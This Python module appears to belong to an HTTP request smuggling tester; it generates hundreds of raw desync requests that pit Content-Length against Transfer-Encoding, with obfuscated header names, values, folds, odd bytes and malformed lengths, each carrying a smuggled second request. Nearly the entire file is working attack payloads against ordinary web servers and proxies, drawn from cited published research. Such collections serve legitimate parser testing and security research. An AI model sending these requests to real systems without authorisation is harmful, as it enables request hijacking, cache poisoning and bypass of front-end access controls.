"""Desync forms: how long a body is. Content-Length against Transfer-Encoding, and obfuscations of either.

Sources: C. Linhart and others, HTTP Request Smuggling (Watchfire, 2005): lengths that disagree. J. Kettle, HTTP Desync
Attacks (PortSwigger, 2019): CL.TE, TE.CL, TE.TE and its obfuscations. E. Custodio's smuggler (defparam/smuggler, its
lists `default`, `doubles`, `exhaustive`): every odd byte before and behind name and value. B. Jabiyev and others,
T-Reqs (CCS 2021), and B. Kallus and others, The HTTP Garden (2024): lengths that integer parsers take. J. Kettle,
Browser-Powered Desync Attacks (2022) and HTTP/1.1 must die (2025): CL.0, 0.CL. The choice of bytes is ours.
"""

from desync_parts import CHUNKED, GET, LAST, POST, SMUGGLED, Form, family, shown, with_length

_TE_BODY = b"%x\r\n%b\r\n%b" % (len(SMUGGLED), SMUGGLED, LAST)
_ODD = (0x01, 0x08, 0x0B, 0x0C, 0x0D, 0x0E, 0x1F, 0x7F, 0x80, 0x85, 0xA0, 0xFF, 0x00)


def length_and_coding() -> list[Form]:
    """CL.TE and TE.CL: both fields, in both orders, with bodies that fit the one or the other."""
    cl_te = LAST + SMUGGLED
    return family(
        "CL with TE",
        {
            "CL.TE": POST + b"Content-Length: %d\r\n" % len(cl_te) + CHUNKED + b"\r\n" + cl_te,
            "CL.TE, TE first": POST + CHUNKED + b"Content-Length: %d\r\n\r\n" % len(cl_te) + cl_te,
            "TE.CL": POST + b"Content-Length: 4\r\n" + CHUNKED + b"\r\n" + _TE_BODY,
            "TE.CL, TE first": POST + CHUNKED + b"Content-Length: 4\r\n\r\n" + _TE_BODY,
            "CL 0 and TE": POST + b"Content-Length: 0\r\n" + CHUNKED + b"\r\n" + _TE_BODY,
            "TE and CL that agree": POST + b"Content-Length: 5\r\n" + CHUNKED + b"\r\n" + LAST,
            "TE identity and CL": POST + b"Content-Length: 4\r\nTransfer-Encoding: identity\r\n\r\nbody",
            "TE empty and CL": POST + b"Content-Length: 4\r\nTransfer-Encoding:\r\n\r\nbody",
            "CL between two TE": POST + CHUNKED + b"Content-Length: 4\r\n" + CHUNKED + b"\r\n" + _TE_BODY,
            "TE between two CL": POST + b"Content-Length: 4\r\n" + CHUNKED + b"Content-Length: 4\r\n\r\n" + _TE_BODY,
            "CL and TE on GET": GET + b"Content-Length: 4\r\n" + CHUNKED + b"\r\n" + _TE_BODY,
            "CL and TE on HTTP/1.0": POST.replace(b"/1.1", b"/1.0")
            + b"Content-Length: 5\r\n"
            + CHUNKED
            + b"\r\n"
            + LAST,
            "CL and TE, the CL hidden by Connection": POST
            + b"Connection: content-length\r\nContent-Length: 4\r\n"
            + CHUNKED
            + b"\r\n"
            + _TE_BODY,
            "CL and TE, the TE hidden by Connection": POST
            + b"Connection: transfer-encoding\r\nContent-Length: 4\r\n"
            + CHUNKED
            + b"\r\n"
            + _TE_BODY,
        },
    )


def coding_names() -> list[Form]:
    """TE.TE: a Transfer-Encoding that one parser knows and another does not."""
    values = {
        "xchunked": b"xchunked",
        "chunked x": b"chunkedx",
        "chunk": b"chunk",
        "identity": b"identity",
        "chunked, identity": b"chunked, identity",
        "identity, chunked": b"identity, chunked",
        "gzip, chunked": b"gzip, chunked",
        "chunked, gzip": b"chunked, gzip",
        "chunked, chunked": b"chunked, chunked",
        "chunked, cow": b"chunked, cow",
        "cow, chunked": b"cow, chunked",
        "cow chunked bar": b"cow chunked bar",
        "trailing comma": b"chunked,",
        "leading comma": b", chunked",
        "commas only": b",,",
        "semicolon": b"chunked;",
        "parameter": b"chunked;q=1",
        "quotes": b'"chunked"',
        "apostrophes": b"'chunked'",
        "empty": b"",
        "comment": b"chunked (yes)",
        "escaped": b"ch\\unked",
        "percent": b"%63hunked",
        "dotless i-like": b"chun\xe2\x84\xaaed",
        "accent": b"ch\x96nked",
        "two words": b"chunked chunked",
        "space inside": b"chu nked",
        "brackets": b"[chunked]",
        "number": b"1",
    }
    forms = {f"TE {key}": POST + b"Transfer-Encoding: %b\r\n\r\n" % value + _TE_BODY for key, value in values.items()}
    forms |= {
        f"TE {key} beside CL": POST + b"Transfer-Encoding: %b\r\nContent-Length: 4\r\n\r\n" % value + _TE_BODY
        for key, value in values.items()
        if key in ("xchunked", "identity", "trailing comma", "quotes", "empty", "chunked, identity")
    }
    forms |= {
        "TE in odd case": POST + b"tRANSFER-eNCODING: cHuNkEd\r\n\r\n" + _TE_BODY,
        "TE without a space": POST + b"Transfer-Encoding:chunked\r\n\r\n" + _TE_BODY,
        "TE in optional white space": POST + b"Transfer-Encoding: \t chunked \t \r\n\r\n" + _TE_BODY,
        "TE of TE.0 kind on GET": GET + CHUNKED + b"\r\n" + _TE_BODY,
        "TE on OPTIONS": GET.replace(b"GET", b"OPTIONS") + CHUNKED + b"\r\n" + _TE_BODY,
        "TE on HTTP/1.0": POST.replace(b"/1.1", b"/1.0") + CHUNKED + b"\r\n" + _TE_BODY,
    }
    return family("TE value", forms)


def coding_fields() -> list[Form]:
    """TE.TE: a field name, a fold or a second field that hides the Transfer-Encoding from one parser."""
    forms = {
        "TE twice": POST + CHUNKED * 2 + b"\r\n" + _TE_BODY,
        "TE cow then chunked": POST + b"Transfer-Encoding: cow\r\n" + CHUNKED + b"\r\n" + _TE_BODY,
        "TE chunked then cow": POST + CHUNKED + b"Transfer-Encoding: cow\r\n\r\n" + _TE_BODY,
        "TE chunked then identity": POST + CHUNKED + b"Transfer-Encoding: identity\r\n\r\n" + _TE_BODY,
        "TE chunked then empty": POST + CHUNKED + b"Transfer-Encoding:\r\n\r\n" + _TE_BODY,
        "TE empty then chunked": POST + b"Transfer-Encoding:\r\n" + CHUNKED + b"\r\n" + _TE_BODY,
        "TE folded value": POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n" + _TE_BODY,
        "TE folded with a tab": POST + b"Transfer-Encoding:\r\n\tchunked\r\n\r\n" + _TE_BODY,
        "TE folded behind": POST + b"Transfer-Encoding: chunked\r\n , gzip\r\n\r\n" + _TE_BODY,
        "TE folded by LF": POST + b"Transfer-Encoding:\n chunked\r\n\r\n" + _TE_BODY,
        "TE folded into an X": POST + b"X: a\r\n Transfer-Encoding: chunked\r\n\r\n" + _TE_BODY,
        "TE name with a space inside": POST + b"Transfer Encoding: chunked\r\n\r\n" + _TE_BODY,
        "TE name broken by CR": POST + b"Transfer\r-Encoding: chunked\r\n\r\n" + _TE_BODY,
        "TE name broken by a line end": POST + b"Transfer-Encoding\r\n: chunked\r\n\r\n" + _TE_BODY,
        "TE name accent": POST + b"Transf\x82r-Encoding: chunked\r\n\r\n" + _TE_BODY,
        "TE behind a bare CR": POST + b"X: X\rTransfer-Encoding: chunked\r\n\r\n" + _TE_BODY,
        "TE behind a bare LF": POST + b"X: X\nTransfer-Encoding: chunked\r\n\r\n" + _TE_BODY,
        "TE behind an empty value and a bare CR": POST + b"X:\rTransfer-Encoding: chunked\r\n\r\n" + _TE_BODY,
        "TE behind a CR and one byte": POST + b"X: \rxTransfer-Encoding: chunked\r\n\r\n" + _TE_BODY,
        "TE behind an empty value": POST + b"X:\r\n" + CHUNKED + b"\r\n" + _TE_BODY,
        "TE name with an underscore": POST + b"Transfer_Encoding: chunked\r\n" + with_length(LAST),
        "TE name with underscores in odd case": POST + b"TRANSFER_ENCODING: chunked\r\n" + with_length(LAST),
        "Content-Encoding chunked": POST + b"Content-Encoding: chunked\r\n" + with_length(LAST),
        "TE field called TE": POST + b"TE: chunked\r\n" + with_length(LAST),
        "X-Transfer-Encoding": POST + b"X-Transfer-Encoding: chunked\r\n" + with_length(LAST),
    }
    for byte in (*_ODD, 0x09, 0x20):
        odd = bytes((byte,))
        name = shown(byte)
        forms[f"TE {name} before the name"] = POST + odd + CHUNKED + b"\r\n" + _TE_BODY
        forms[f"TE {name} behind the name"] = POST + b"Transfer-Encoding%b: chunked\r\n\r\n" % odd + _TE_BODY
        if byte not in (0x09, 0x20):
            forms[f"TE {name} before the value"] = POST + b"Transfer-Encoding: %bchunked\r\n\r\n" % odd + _TE_BODY
            forms[f"TE {name} behind the value"] = POST + b"Transfer-Encoding: chunked%b\r\n\r\n" % odd + _TE_BODY
    return family("TE field", forms)


def lengths() -> list[Form]:
    """Content-Length in forms that integer parsers take, twice, and hidden; and bodies where nobody expects one."""
    values = {
        "list that agrees": b"5, 5",
        "list that disagrees": b"5, 6",
        "list without a space": b"5,5",
        "trailing comma": b"5,",
        "plus": b"+5",
        "minus": b"-5",
        "minus zero": b"-0",
        "hexadecimal": b"0x5",
        "octal": b"0o5",
        "binary": b"0b101",
        "exponent": b"5e0",
        "decimal point": b"5.0",
        "underscore": b"0_5",
        "space inside": b"0 5",
        "letter behind": b"5a",
        "quotes": b'"5"',
        "parameter": b"5;q=1",
        "2 to the 64": b"18446744073709551616",
        "2 to the 64 and 5": b"18446744073709551621",
        "2 to the 63": b"9223372036854775808",
        "2 to the 32 and 5": b"4294967301",
        "thirty digits": b"9" * 30,
        "empty": b"",
        "spaces only": b"   ",
        "word": b"five",
        "Arabic digit": b"\xd9\xa5",
        "superscript": b"\xb2",
        "full-width digit": b"\xef\xbc\x95",
        "NUL behind": b"5\x00",
        "NUL before": b"\x005",
        "vertical tab before": b"\x0b5",
        "form feed behind": b"5\x0c",
        "CR behind": b"5\r",
        "no-break space": b"\xa05",
    }
    forms = {f"CL {key}": POST + b"Content-Length: %b\r\n\r\nhello" % value for key, value in values.items()}
    forms |= {
        "CL with spaces behind": POST + b"Content-Length: 5   \r\n\r\nhello",
        "CL with tabs around": POST + b"Content-Length:\t5\t\r\n\r\nhello",
        "CL with leading zeros": POST + b"Content-Length: 0005\r\n\r\nhello",
        "CL with very many zeros": POST + b"Content-Length: " + b"0" * 40 + b"5\r\n\r\nhello",
        "CL in odd case": POST + b"cONTENT-lENGTH: 5\r\n\r\nhello",
        "CL twice, same": POST + b"Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
        "CL twice, 0 first": POST + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED,
        "CL twice, 0 last": POST + b"Content-Length: %d\r\nContent-Length: 0\r\n\r\n" % len(SMUGGLED) + SMUGGLED,
        "CL twice, odd case": POST + b"Content-Length: 5\r\ncontent-length: 6\r\n\r\nhello!",
        "CL twice, one empty": POST + b"Content-Length:\r\nContent-Length: 5\r\n\r\nhello",
        "CL twice, one behind a space": POST + b"Content-Length : 6\r\nContent-Length: 5\r\n\r\nhello!",
        "CL folded": POST + b"Content-Length:\r\n 5\r\n\r\nhello",
        "CL folded number": POST + b"Content-Length: 1\r\n 0\r\n\r\nhello",
        "CL behind a space": POST + b"Content-Length : 5\r\n\r\nhello",
        "CL behind a leading space": POST + b" Content-Length: 5\r\n\r\nhello",
        "CL behind a bare LF": POST + b"X: a\nContent-Length: 5\r\n\r\nhello",
        "CL behind a bare CR": POST + b"X: a\rContent-Length: 5\r\n\r\nhello",
        "CL behind a CR and one byte": POST + b"X: \rxContent-Length: 5\r\n\r\nhello",
        "CL behind an empty value": POST + b"X:\r\nContent-Length: 5\r\n\r\nhello",
        "CL by underscore": POST + b"Content_Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED,
        "CL by underscore beside CL": POST + b"Content_Length: 0\r\n" + with_length(SMUGGLED),
        "CL by underscore, odd case": POST + b"CONTENT_LENGTH: 3\r\nContent-Length: 5\r\n\r\nhello",
        "CL with a dot": POST + b"Content.Length: 3\r\nContent-Length: 5\r\n\r\nhello",
        "CL called X-Content-Length": POST + b"X-Content-Length: 3\r\nContent-Length: 5\r\n\r\nhello",
        "CL misspelt": POST + b"Content-Lenght: 5\r\n\r\n" + SMUGGLED,
        "CL.0": POST + with_length(SMUGGLED),
        "CL.0 on GET": GET + with_length(SMUGGLED),
        "CL.0 on HEAD": GET.replace(b"GET", b"HEAD") + with_length(SMUGGLED),
        "CL.0 on DELETE": GET.replace(b"GET", b"DELETE") + with_length(SMUGGLED),
        "CL.0 on OPTIONS": GET.replace(b"GET", b"OPTIONS") + with_length(SMUGGLED),
        "CL.0 on TRACE": GET.replace(b"GET", b"TRACE") + with_length(SMUGGLED),
        "0.CL": POST + b"Content-Length: 0\r\n\r\n" + SMUGGLED,
        "no CL, but a body": POST + b"\r\n" + SMUGGLED,
        "CL short of the body": POST + b"Content-Length: 4\r\n\r\nbodyrest",
        "CL beyond the body": POST + b"Content-Length: 400\r\n\r\n" + SMUGGLED,
        "CL that ends inside the next request": POST + b"Content-Length: 10\r\n\r\n" + SMUGGLED,
        "CL on HTTP/1.0": POST.replace(b"/1.1", b"/1.0") + b"Content-Length: 5\r\n\r\nhello",
        "CL short on HTTP/1.0, kept alive": POST.replace(b"/1.1", b"/1.0")
        + b"Connection: keep-alive\r\nContent-Length: 0\r\n\r\n"
        + SMUGGLED,
    }
    return family("CL", forms)
